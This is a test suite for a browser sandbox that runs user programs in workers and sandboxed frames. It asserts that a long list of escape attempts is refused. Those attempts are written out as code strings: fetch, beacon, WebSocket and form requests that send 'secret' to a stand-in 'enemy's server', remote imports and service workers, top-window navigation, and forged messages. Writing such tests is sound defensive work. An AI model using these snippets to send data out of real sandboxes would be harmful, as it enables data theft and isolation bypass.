/** Programs a peer might write to get out. Each attempt prints what it got; nothing may reach the listener or the app. */
import type { Page } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { SANDBOX_FRAME_PATH } from '../../core/security-headers.ts';
import { type Bed, openBed, openListener } from '../test-bed/test-bed.ts';
import { FRAME_READY } from './protocol.ts';

let bed: Bed;
let listener: Awaited<ReturnType<typeof openListener>>;
beforeAll(async () => {
  [bed, listener] = await Promise.all([openBed(), openListener()]);
});
afterAll(async () => {
  await bed?.close();
  await listener?.close();
});

/** Attempts in plain JavaScript, name → function body; each resolves with what it reached or throws. `where` is the enemy's server. */
const FROM_WORKER: Readonly<Record<string, string>> = {
  indexedDB:
    "return new Promise((yes, no) => { const open = indexedDB.open('x'); open.onsuccess = () => yes('opened'); open.onerror = () => no(open.error) })",
  localStorage: 'return localStorage.length',
  caches: 'return caches.keys()',
  opfs: 'return navigator.storage.getDirectory()',
  cookies: 'return cookieStore.getAll()',
  document: 'return document.title',
  fetch: "return realm.fetch(where + '/fetch')",
  fetchApp: "return realm.fetch('/page.js')",
  fetchNoCors:
    "return realm.fetch(where + '/no-cors', { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true })",
  xhr: "const request = new XMLHttpRequest(); request.open('GET', where + '/xhr', false); request.send(); return request.status",
  webSocket:
    "return new Promise((yes, no) => { const socket = new WebSocket(where.replace('http', 'ws')); socket.onopen = () => yes('open'); socket.onerror = no })",
  eventSource:
    "return new Promise((yes, no) => { const source = new EventSource(where + '/events'); source.onopen = () => yes('open'); source.onerror = no })",
  webTransport: "return new WebTransport(where.replace('http', 'https')).ready",
  beacon: "if (!navigator.sendBeacon(where + '/beacon', 'secret')) throw new Error('refused')",
  remoteImport: "return realm.importModule(where + '/module.js')",
  importScripts: "return realm.importScripts(where + '/script.js')",
  nestedWorker:
    "return new Promise((yes, no) => { const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${where}/nested').then(() => postMessage('reached'), () => postMessage(''))`]))); worker.onmessage = (event) => event.data ? yes(event.data) : no(new Error('refused')); worker.onerror = no })",
  remoteWorker:
    "return new Promise((yes, no) => { const worker = new Worker(where + '/worker.js'); worker.onmessage = yes; worker.onerror = no })",
  image: 'return new Image()',
  rtc: 'return new RTCPeerConnection()',
  serviceWorker: "return navigator.serviceWorker.register(where + '/sw.js')",
  location: "location.href = where + '/location'; return new Promise((_, no) => setTimeout(no, 100))",
};

/** Longer than a refusal takes on a busy machine; what is refused by silence costs a test this long. */
const ANSWER_MS = 1500;

const attempts = (bodies: Readonly<Record<string, string>>, where: string): string => `
const where = ${JSON.stringify(where)};
const results = {};
await Promise.all(Object.entries(${JSON.stringify(bodies)}).map(async ([name, body]) => {
  const attempt = (async () => new Function('where', 'realm', body)(where, realm))();
  const late = new Promise((_, no) => realm.setTimeout(() => no(new Error('no answer')), ${ANSWER_MS}));
  results[name] = await Promise.race([attempt, late]).then((got) => 'REACHED ' + String(got), () => 'refused');
}));`;

const expectAllRefused = (results: unknown, bodies: object): void => {
  expect(results).toEqual(Object.fromEntries(Object.keys(bodies).map((name) => [name, 'refused'])));
};

test('JavaScript in the worker reaches neither storage nor network', async () => {
  const realm = `const ask = Object.getPrototypeOf(async function () {}).constructor;
const realm = { fetch: (...a) => Reflect.apply(Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch ?? WorkerGlobalScope.prototype.fetch, self, a),
  setTimeout, importModule: new Function('url', 'return import(url)'), importScripts: (...a) => self.importScripts(...a) };
delete self.fetch;
if (typeof self.fetch === 'function') realm.fetch = (...a) => self.fetch(...a);`;
  const source = `${realm}${attempts(FROM_WORKER, listener.origin)}\nconsole.log(JSON.stringify(results)); process.exit(0);`;
  const report = await bed.run({ entry: 'main.mjs', files: { 'main.mjs': source } });
  expect(report.stderr).toBe('');
  expectAllRefused(JSON.parse(report.stdout), FROM_WORKER);
  expect([listener.heard, listener.connections()]).toEqual([[], 0]);
});

test('Python reaches no further through its js module', async () => {
  const script = `(async () => { const realm = { fetch: self.fetch, setTimeout, importModule: (url) => import(url), importScripts: (...a) => self.importScripts(...a) };
${attempts(FROM_WORKER, listener.origin)} return JSON.stringify(results); })()`;
  const source = `import asyncio, js\nasync def main():\n  print(await js.eval(${JSON.stringify(script)}))\nasyncio.run(main())
import pyodide_js
for attempt in (lambda: pyodide_js.loadPackage("${listener.origin}/x.whl"), lambda: js.importScripts("${listener.origin}/x.js")):
  try: attempt()
  except Exception: pass`;
  const report = await bed.run({ entry: 'main.py', files: { 'main.py': source } });
  expectAllRefused(JSON.parse(report.stdout.split('\n')[0] ?? ''), FROM_WORKER);
  expect([listener.heard, listener.connections()]).toEqual([[], 0]);
});

test('messages a program forges hurt only its own run', async () => {
  const source = `
for (const message of [null, 1, 'x', {}, { kind: 'booted' }, { kind: 'batch', run: 1, end: { kind: 'failed' } }, { kind: 'output', bytes: 'no' }, { kind: 'want' }, { kind: 'unwant' }, { kind: 'pong' }]) self.postMessage(message);
for (let i = 0; i < 20000; i++) self.postMessage({ kind: i % 2 ? 'want' : 'unwant', by: 'message' });
self.postMessage({ kind: 'exit', code: 7.5 });
for (;;);`;
  const report = await bed.run({ entry: 'main.js', files: { 'main.js': source } });
  expect(report.end).toEqual({ kind: 'exit', code: 1 });
  const next = await bed.run({ entry: 'main.js', files: { 'main.js': 'console.log("alive")' } });
  expect(next).toMatchObject({ stdout: 'alive\n', end: { kind: 'exit', code: 0 } });
});

const FROM_FRAME: Readonly<Record<string, string>> = {
  ...FROM_WORKER,
  cookies: 'document.cookie = "a=1"; return document.cookie',
  document: 'return parent.document.title',
  parentBed: 'return parent.bed.runtimes',
  top: "top.location = where + '/top'; throw new Error(top.location.href)",
  popup: "if (!window.open(where + '/popup')) throw new Error('refused')",
  image:
    "return new Promise((yes, no) => { const image = new Image(); image.onload = yes; image.onerror = no; image.src = where + '/image' })",
  form: "const form = document.createElement('form'); form.action = where + '/form'; document.body.append(form); form.submit(); throw new Error('nothing seen')",
  nestedFrame:
    "return new Promise((yes, no) => { const frame = document.createElement('iframe'); frame.src = where + '/frame'; frame.onload = () => no(); document.body.append(frame) })",
};

/**
 * Browsers connect ahead to where a blocked navigation would have led, without sending anything; from a worker not even that.
 * A frame whose main thread is the enemy's, which no program reaches, is the second wall.
 */
const hostile = (body: string): string => `self.startBroker = async (port) => {
  let ticket, door;
  const asked = new Promise((yes) => (port.onmessage = ({ data }) => data.kind === 'run' && yes(({ ticket, nextDoor: door } = data))));
  const send = (output, end) => port.postMessage({ kind: 'batch', run: 1, ticket, output, inputWanted: false, end });
  await asked;
  ${body}
};`;

test('even the frame itself reaches neither the app nor the network', async () => {
  // A beacon answers true before policy stops it: the listener tells. RTCPeerConnection can be made here, never in a worker.
  const { rtc: _rtc, location: _location, beacon, ...bodies } = FROM_FRAME;
  const [{ output } = { output: '' }] = await bed.hostile({
    broker:
      hostile(`const realm = { fetch: self.fetch.bind(self), setTimeout: setTimeout.bind(self), importModule: (url) => import(url), importScripts: () => { throw 0 } };
    ${attempts(bodies, listener.origin)}
    (0, eval)(${JSON.stringify(`(where) => { ${beacon} }`)})(${JSON.stringify(listener.origin)});
    send([[1, JSON.stringify(results)]], { kind: 'exit', code: 0 });`),
  });
  expectAllRefused(JSON.parse(output), bodies);
  expect(listener.heard).toEqual([]);
});

test('a frame that navigates itself away is stopped by the policy of the app', async () => {
  const broker = hostile(`location.href = ${JSON.stringify(`${listener.origin}/?secret`)};`);
  const [report] = await bed.hostile({ broker }, 1, { silenceMs: 1000 });
  expect(report?.broke).toBe(true);
  expect(listener.heard).toEqual([]);
});

/** A page whose frames lost the attribute that isolates them, with a document in place of the sandbox's that lost its header. */
async function unisolated(body: string): Promise<Page> {
  const page = await bed.browser.newPage();
  await page.addInitScript(() => {
    HTMLIFrameElement.prototype.setAttribute = function (name, value) {
      if (name !== 'sandbox') Element.prototype.setAttribute.call(this, name, value);
    };
  });
  const headers = { 'cross-origin-embedder-policy': 'require-corp' };
  await page.route(`**${SANDBOX_FRAME_PATH}`, (route) =>
    route.fulfill({ body, headers, contentType: 'text/html' }),
  );
  await page.goto(bed.origin);
  await page.waitForFunction(() => 'bed' in globalThis);
  return page;
}
const ANY = { entry: 'main.js', files: { 'main.js': '' } };

test('the app hands nothing to a frame that has an origin', async () => {
  const page = await unisolated(`<script>parent.postMessage('${FRAME_READY}', '*')</script>`);
  const { end } = await bed.run(ANY, page);
  expect(end).toEqual({ kind: 'failed', message: expect.stringContaining('not isolated') as string });
  await page.close();
});

test('the frame itself refuses to start where it has an origin', async () => {
  const frame = await fetch(bed.origin + SANDBOX_FRAME_PATH);
  const page = await unisolated(await frame.text());
  const refused = page.waitForEvent('pageerror');
  // Nobody waits for the app to give up.
  const given = bed.run(ANY, page).catch(() => undefined);
  expect((await refused).message).toContain('only inside the sandbox');
  await page.close();
  await given;
});

test.for([
  ['floods with batches', "for (let i = 0; i < 1e5; i++) send([[1, 'x']]);"],
  ['sends too much at once', "send([[1, 'x'.repeat(70000)]]);"],
  [
    'sends what is no message',
    "port.postMessage({ kind: 'batch', run: 1, ticket, output: [[3, 'x']], inputWanted: false });",
  ],
  ['shows a ticket it was not given', "ticket ^= 1; send([[1, '']]);"],
  [
    'starts a program again and again',
    "for (let i = 0; i < 1e5; i++) port.postMessage({ kind: 'started', run: 1 });",
  ],
  ['answers pings nobody sent', "for (let i = 0; i < 1000; i++) port.postMessage({ kind: 'pong' });"],
  [
    'speaks for another run',
    "port.postMessage({ kind: 'batch', run: 2, ticket, output: [[1, 'x']], inputWanted: false });",
  ],
  [
    'answers through the door of a program',
    "door.postMessage({ kind: 'batch', run: 1, ticket, output: [[1, 'x']], inputWanted: false });",
  ],
  ['answers there with what cannot be read', 'door.postMessage(new SharedArrayBuffer(1));'],
])('a frame that %s is removed', async ([, body]) => {
  const [result] = await bed.hostile({ broker: hostile(body ?? '') }, 1, { wallMs: 5000 });
  expect(result).toMatchObject({ kind: 'failed', broke: true });
  expect(result?.output.length).toBeLessThanOrEqual(1);
});

test('a ping of one run may be answered in the next', async () => {
  const broker = `self.startBroker = (port) => {
  let late = false, ended = 0;
  const end = ({ run, ticket }) => port.postMessage({ kind: 'batch', run, ticket, output: [], inputWanted: false, end: { kind: 'exit', code: ++ended } });
  let current;
  port.onmessage = ({ data }) => {
    if (data.kind === 'run') current = data;
    if (data.kind === 'run' && late) { port.postMessage({ kind: 'pong' }); end(current); }
    if (data.kind === 'ping') { late = true; end(current); }
  };
};`;
  const ends = await bed.hostile({ broker }, 2);
  expect(ends).toMatchObject([
    { kind: 'exit', code: 1, broke: false },
    { kind: 'exit', code: 2, broke: false },
  ]);
});
